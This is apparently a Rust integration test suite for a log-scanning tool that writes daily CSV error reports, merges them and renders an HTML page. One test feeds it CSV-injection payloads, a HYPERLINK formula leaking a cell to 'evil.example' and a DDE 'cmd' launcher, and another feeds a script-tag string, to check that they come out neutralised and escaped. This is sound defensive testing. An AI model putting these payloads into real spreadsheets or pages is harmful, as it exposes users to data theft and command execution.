//! Daily reports end to end: `scan --report-dir`, `report merge` and
//! `report html` with the real binary, and the HTML page in headless
//! Chromium when it is installed.

mod common;

use std::fs;
use std::path::{Path, PathBuf};

use common::*;
use errscope::output::report::{read_report, ReportRow};

fn ocrolus(code: u32, message: &str) -> String {
    format!(
        r#"{{"status":400,"message":{},"code":{code},"response":null}}"#,
        serde_json::to_string(message).unwrap()
    )
}

fn codat(status: u16, error: &str) -> String {
    format!(
        r#"{{"statusCode":{status},"service":"PublicApi","error":{},"correlationId":"c-1"}}"#,
        serde_json::to_string(error).unwrap()
    )
}

/// A log line carrying `time` and `body`.
fn line(time: &str, body: &str) -> String {
    format!("{time} ERROR [vendor.client] request failed: {body}\n")
}

/// Runs `scan --report-dir dir` plus `extra` over `inputs`; asserts exit 0.
fn backfill(dir: &Path, inputs: &[&str], extra: &[&str]) {
    let output = errscope()
        .args(["scan", "--no-progress", "--report-dir"])
        .arg(dir)
        .args(extra)
        .args(inputs)
        .output()
        .unwrap();
    assert!(output.status.success(), "scan failed: {}", stderr(&output));
}

fn rows(path: &Path) -> Vec<ReportRow> {
    read_report(path).unwrap_or_else(|e| panic!("{e}"))
}

/// (vendor, code, status, count) of each row, in file order.
fn summary(path: &Path) -> Vec<(String, String, String, u64)> {
    rows(path)
        .into_iter()
        .map(|r| {
            let status = r.status.map(|s| s.to_string()).unwrap_or_default();
            (r.vendor, r.code, status, r.count)
        })
        .collect()
}

fn day_files(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

fn s(text: &str) -> String {
    text.to_owned()
}

#[test]
fn scan_backfill_writes_one_file_per_utc_day() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = String::new();
    log += &line(
        "2026-11-20T10:00:00Z",
        &ocrolus(1200, "Authentication failed"),
    );
    log += &line(
        "2026-11-20T23:59:59.900Z",
        &ocrolus(1200, "Authentication failed"),
    );
    log += &line("2026-11-20T12:00:00Z", &ocrolus(1204, "Invalid API key"));
    // Another time zone: 2026-11-21T01:30:00+02:00 is 2026-11-20 in UTC.
    log += &line(
        "2026-11-21T01:30:00+02:00",
        &ocrolus(1200, "Authentication failed"),
    );
    log += &line(
        "2026-11-21T00:00:00Z",
        &ocrolus(1200, "Authentication failed"),
    );
    log += &line("2026-11-21T08:00:00Z", CODAT_402);
    log += &line("2026-11-21T09:00:00Z", CODAT_402);
    let input = write(dir.path(), "app.log", log);
    let reports = dir.path().join("reports");
    backfill(&reports, &[&input], &[]);

    assert_eq!(day_files(&reports), ["2026-11-20.csv", "2026-11-21.csv"]);
    let first = reports.join("2026-11-20.csv");
    let text = fs::read_to_string(&first).unwrap();
    assert_eq!(
        text.lines().next(),
        Some("date,vendor,code,status,count,category,description,first_seen,last_seen,sample_message")
    );
    assert_eq!(
        summary(&first),
        [
            (s("ocrolus"), s("1200"), s("400"), 3),
            (s("ocrolus"), s("1204"), s("400"), 1)
        ]
    );
    assert_eq!(
        text.lines().nth(1),
        Some("2026-11-20,ocrolus,1200,400,3,auth,Authentication failed,2026-11-20T10:00:00Z,2026-11-20T23:59:59Z,Authentication failed")
    );
    assert_eq!(
        summary(&reports.join("2026-11-21.csv")),
        [
            (s("codat"), s("CompanyValidationException"), s("402"), 2),
            (s("ocrolus"), s("1200"), s("400"), 1)
        ]
    );
}

#[test]
fn lines_without_a_time_count_on_the_day_of_the_scan() {
    let dir = tempfile::tempdir().unwrap();
    let input = write(dir.path(), "app.log", format!("{OCROLUS_1200}\n"));
    let before = jiff::Timestamp::now().strftime("%Y-%m-%d").to_string();
    backfill(&dir.path().join("r"), &[&input], &[]);
    let after = jiff::Timestamp::now().strftime("%Y-%m-%d").to_string();
    let files = day_files(&dir.path().join("r"));
    assert!(
        files == [format!("{before}.csv")] || files == [format!("{after}.csv")],
        "{files:?}"
    );
    let row = &rows(&dir.path().join("r").join(&files[0]))[0];
    assert_eq!((row.count, row.first_seen, row.last_seen), (1, None, None));
}

/// Two hosts' logs, overlapping in days and codes, with one message per
/// code so the sample is the same whichever host saw it first.
fn host_logs() -> (String, String) {
    let auth = ocrolus(1200, "Authentication failed");
    let key = ocrolus(1204, "Invalid API key");
    let mut host1 = String::new();
    host1 += &line("2026-11-20T10:00:00Z", &auth);
    host1 += &line("2026-11-20T11:00:00Z", &auth);
    host1 += &line("2026-11-20T11:30:00Z", CODAT_402);
    host1 += &line("2026-11-21T03:00:00Z", &auth);
    let mut host2 = String::new();
    host2 += &line("2026-11-20T09:15:00Z", &auth);
    host2 += &line("2026-11-20T22:45:00Z", &key);
    host2 += &line("2026-11-20T11:10:00Z", &auth);
    host2 += &line("2026-11-21T05:00:00Z", &key);
    host2 += &line("2026-11-22T00:00:01Z", &key);
    (host1, host2)
}

#[test]
fn merge_of_two_hosts_equals_the_report_of_the_concatenated_input() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path();
    let (host1, host2) = host_logs();
    let log1 = write(p, "host1.log", &host1);
    let log2 = write(p, "host2.log", &host2);
    let all = write(p, "all.log", format!("{host1}{host2}"));
    backfill(&p.join("host1"), &[&log1], &[]);
    backfill(&p.join("host2"), &[&log2], &[]);
    backfill(&p.join("all"), &[&all], &[]);

    let days = day_files(&p.join("all"));
    assert_eq!(days, ["2026-11-20.csv", "2026-11-21.csv", "2026-11-22.csv"]);
    for day in &days {
        let inputs: Vec<PathBuf> = ["host1", "host2"]
            .iter()
            .map(|h| p.join(h).join(day))
            .filter(|path| path.exists())
            .collect();
        let merged = p.join("merged").join(day);
        let output = errscope()
            .args(["report", "merge"])
            .args(&inputs)
            .arg("-o")
            .arg(&merged)
            .output()
            .unwrap();
        assert!(output.status.success(), "merge: {}", stderr(&output));
        assert_eq!(
            fs::read_to_string(&merged).unwrap(),
            fs::read_to_string(p.join("all").join(day)).unwrap(),
            "{day}"
        );
    }
    let first = rows(&p.join("merged").join("2026-11-20.csv"));
    assert_eq!(first[0].code, "1200");
    assert_eq!(first[0].count, 4);
    assert_eq!(
        first[0].first_seen,
        Some("2026-11-20T09:15:00Z".parse().unwrap())
    );
    assert_eq!(
        first[0].last_seen,
        Some("2026-11-20T11:10:00Z".parse().unwrap())
    );
}

#[test]
fn a_late_event_updates_the_earlier_day() {
    let dir = tempfile::tempdir().unwrap();
    let reports = dir.path().join("reports");
    let auth = ocrolus(1200, "Authentication failed");
    let mut log = line("2026-11-20T23:59:00Z", &auth);
    let input = write(dir.path(), "app.log", &log);
    backfill(&reports, &[&input], &[]);
    assert_eq!(day_files(&reports), ["2026-11-20.csv"]);
    let before = rows(&reports.join("2026-11-20.csv"));
    assert_eq!(before[0].count, 1);

    // The next day starts, then a line for yesterday arrives late.
    log += &line("2026-11-21T00:00:05Z", &auth);
    log += &line("2026-11-20T23:59:58Z", &auth);
    fs::write(&input, &log).unwrap();
    backfill(&reports, &[&input], &[]);
    assert_eq!(day_files(&reports), ["2026-11-20.csv", "2026-11-21.csv"]);
    let after = rows(&reports.join("2026-11-20.csv"));
    assert_eq!(after[0].count, 2);
    assert_eq!(
        after[0].last_seen,
        Some("2026-11-20T23:59:58Z".parse().unwrap())
    );
    assert_eq!(rows(&reports.join("2026-11-21.csv"))[0].count, 1);
}

#[test]
fn a_formula_in_a_message_comes_out_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
    let mut log = line("2026-11-20T10:00:00Z", &ocrolus(1200, formula));
    // Codat's code is the text before the first ':' of `error`.
    log += &line("2026-11-20T10:00:01Z", &codat(400, "=HYPERLINK(1): x"));
    log += &line(
        "2026-11-20T10:00:02Z",
        &ocrolus(1204, "@SUM(1+1)*cmd|' /C calc'!A0"),
    );
    let input = write(dir.path(), "app.log", log);
    let reports = dir.path().join("reports");
    backfill(&reports, &[&input], &[]);
    let path = reports.join("2026-11-20.csv");
    let found = rows(&path);
    let by_code = |code: &str| found.iter().find(|r| r.code == code).unwrap();
    assert_eq!(by_code("1200").sample_message, format!("'{formula}"));
    assert_eq!(
        by_code("1204").sample_message,
        "'@SUM(1+1)*cmd|' /C calc'!A0"
    );
    assert_eq!(
        by_code("'=HYPERLINK(1)").sample_message,
        "'=HYPERLINK(1): x"
    );

    // No cell of the raw file starts with a formula character.
    let mut reader = csv::Reader::from_path(&path).unwrap();
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "cell {cell:?} in {}",
                path.display()
            );
        }
    }

    // A merge keeps them neutralised, without a second prefix.
    let merged = dir.path().join("merged.csv");
    errscope()
        .args(["report", "merge"])
        .arg(&path)
        .arg("-o")
        .arg(&merged)
        .assert()
        .success();
    assert_eq!(
        fs::read_to_string(&merged).unwrap(),
        fs::read_to_string(&path).unwrap()
    );
}

#[test]
fn an_email_in_a_message_comes_out_masked_unless_no_redact() {
    let dir = tempfile::tempdir().unwrap();
    let message = "Authentication failed for jane.doe+ocr@example.com (account 12345678)";
    let input = write(
        dir.path(),
        "app.log",
        line("2026-11-20T10:00:00Z", &ocrolus(1200, message)),
    );
    let masked = dir.path().join("masked");
    backfill(&masked, &[&input], &[]);
    let text = fs::read_to_string(masked.join("2026-11-20.csv")).unwrap();
    assert!(!text.contains("example.com"), "{text}");
    assert_eq!(
        rows(&masked.join("2026-11-20.csv"))[0].sample_message,
        "Authentication failed for <email> (account <number>)"
    );

    let plain = dir.path().join("plain");
    backfill(&plain, &[&input], &["--no-redact"]);
    assert_eq!(
        rows(&plain.join("2026-11-20.csv"))[0].sample_message,
        message
    );
}

#[test]
fn a_failed_report_write_exits_2_and_names_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let input = write(
        dir.path(),
        "app.log",
        line("2026-11-20T10:00:00Z", OCROLUS_1200),
    );
    // The report directory is a regular file: nothing can be written.
    let blocked = write(dir.path(), "reports", "not a directory");
    let output = errscope()
        .args(["scan", "--no-progress", "--report-dir", &blocked, &input])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stdout(&output).contains("ocrolus"),
        "the summary is still printed"
    );
    let err = stderr(&output);
    assert!(
        err.contains(&format!("cannot write {blocked}")),
        "stderr: {err}"
    );

    // The day's report is a directory: that file cannot be replaced, the
    // summary and other files are unaffected.
    let reports = dir.path().join("r");
    fs::create_dir_all(reports.join("2026-11-20.csv")).unwrap();
    let output = errscope()
        .args(["scan", "--no-progress", "--report-dir"])
        .arg(&reports)
        .arg(&input)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("2026-11-20.csv"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn merge_rejects_bad_inputs_naming_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let not_a_report = write(dir.path(), "app.log", "hello\n");
    let output = errscope()
        .args(["report", "merge", &not_a_report, "-o"])
        .arg(dir.path().join("out.csv"))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains(&format!("{not_a_report}: line 1: not an errscope report")),
        "{}",
        stderr(&output)
    );

    let header =
        "date,vendor,code,status,count,category,description,first_seen,last_seen,sample_message";
    let bad = write(
        dir.path(),
        "2026-11-20.csv",
        format!("{header}\n2026-11-20,ocrolus,1200,400,3,auth,d,,,m\n2026-11-20,ocrolus,1204,400,many,auth,d,,,m\n"),
    );
    let output = errscope()
        .args(["report", "merge", &bad, "-o"])
        .arg(dir.path().join("out.csv"))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains(&format!("{bad}: line 3: count `many`")),
        "{}",
        stderr(&output)
    );
    assert!(!dir.path().join("out.csv").exists(), "no partial merge");
}

#[test]
fn html_report_is_self_contained_and_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = line(
        "2026-11-20T10:00:00Z",
        &ocrolus(1200, "<script>alert('x')</script>"),
    );
    log += &line("2026-11-21T10:00:00Z", CODAT_402);
    log += &line("2026-11-21T11:00:00Z", CODAT_402);
    let input = write(dir.path(), "app.log", log);
    let reports = dir.path().join("reports");
    backfill(&reports, &[&input], &[]);
    let page = dir.path().join("errors.html");
    errscope()
        .args(["report", "html"])
        .arg(&reports)
        .arg("-o")
        .arg(&page)
        .assert()
        .success();
    let html = fs::read_to_string(&page).unwrap();
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("<svg"));
    assert!(html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"));
    assert!(!html.contains("<script"));
    assert!(!html.contains("<link") && !html.contains(" src=") && !html.contains("url("));
    assert!(html.contains("CompanyValidationException"));
    assert!(html.contains("3 errors from 2 vendors on 2 days"));
}

/// Decodes an 8-bit, non-interlaced RGB or RGBA PNG (what Chromium writes)
/// into (width, height, RGB pixels).
fn decode_png(bytes: &[u8]) -> (usize, usize, Vec<[u8; 3]>) {
    use std::io::Read;
    assert_eq!(&bytes[..8], b"\x89PNG\r\n\x1a\n", "PNG signature");
    let mut at = 8;
    let (mut width, mut height, mut channels) = (0, 0, 0);
    let mut data = Vec::new();
    while at + 8 <= bytes.len() {
        let len = u32::from_be_bytes(bytes[at..at + 4].try_into().unwrap()) as usize;
        let kind = &bytes[at + 4..at + 8];
        let body = &bytes[at + 8..at + 8 + len];
        match kind {
            b"IHDR" => {
                width = u32::from_be_bytes(body[0..4].try_into().unwrap()) as usize;
                height = u32::from_be_bytes(body[4..8].try_into().unwrap()) as usize;
                assert_eq!(body[8], 8, "bit depth");
                channels = match body[9] {
                    2 => 3,
                    6 => 4,
                    other => panic!("colour type {other}"),
                };
                assert_eq!(body[12], 0, "interlaced");
            }
            b"IDAT" => data.extend_from_slice(body),
            b"IEND" => break,
            _ => {}
        }
        at += 12 + len;
    }
    let mut raw = Vec::new();
    flate2::read::ZlibDecoder::new(data.as_slice())
        .read_to_end(&mut raw)
        .unwrap();
    let stride = width * channels;
    let mut prev = vec![0u8; stride];
    let mut pixels = Vec::with_capacity(width * height);
    for y in 0..height {
        let row = &raw[y * (stride + 1)..(y + 1) * (stride + 1)];
        let mut cur = row[1..].to_vec();
        for i in 0..stride {
            let a = if i >= channels { cur[i - channels] } else { 0 };
            let b = prev[i];
            let c = if i >= channels { prev[i - channels] } else { 0 };
            let predictor = match row[0] {
                0 => 0,
                1 => a,
                2 => b,
                3 => ((u16::from(a) + u16::from(b)) / 2) as u8,
                4 => {
                    let p = i16::from(a) + i16::from(b) - i16::from(c);
                    let (pa, pb, pc) = (
                        (p - i16::from(a)).abs(),
                        (p - i16::from(b)).abs(),
                        (p - i16::from(c)).abs(),
                    );
                    if pa <= pb && pa <= pc {
                        a
                    } else if pb <= pc {
                        b
                    } else {
                        c
                    }
                }
                other => panic!("filter {other}"),
            };
            cur[i] = cur[i].wrapping_add(predictor);
        }
        for px in cur.chunks(channels) {
            pixels.push([px[0], px[1], px[2]]);
        }
        prev = cur;
    }
    (width, height, pixels)
}

#[test]
fn html_report_renders_in_headless_chromium() {
    let found = ["chromium", "chromium-browser"].iter().any(|name| {
        std::env::var_os("PATH")
            .is_some_and(|paths| std::env::split_paths(&paths).any(|d| d.join(name).is_file()))
    });
    if !found {
        println!(
            "SKIPPED html_report_renders_in_headless_chromium: chromium is not on PATH \
             (apt-get install chromium)"
        );
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/html_screenshot.sh");
    let output = std::process::Command::new("bash")
        .arg(&script)
        .arg(env!("CARGO_BIN_EXE_errscope"))
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{} failed:\n{}{}",
        script.display(),
        stdout(&output),
        stderr(&output)
    );
    let (width, height, pixels) = decode_png(&fs::read(dir.path().join("out.png")).unwrap());
    assert_eq!((width, height), (1200, 900));
    // Every vendor's bars are in the picture, in its own colour.
    for (vendor, rgb) in [
        ("ocrolus", [0x25, 0x63, 0xeb]),
        ("aplos", [0xea, 0x58, 0x0c]),
        ("ozforensics", [0x16, 0xa3, 0x4a]),
        ("synapse", [0xdc, 0x26, 0x26]),
        ("codat", [0x93, 0x33, 0xea]),
    ] {
        let close = pixels
            .iter()
            .filter(|p| p.iter().zip(rgb).all(|(a, b)| a.abs_diff(b) <= 6))
            .count();
        assert!(
            close > 2000,
            "{vendor}: only {close} pixels of its colour in the screenshot"
        );
    }
}
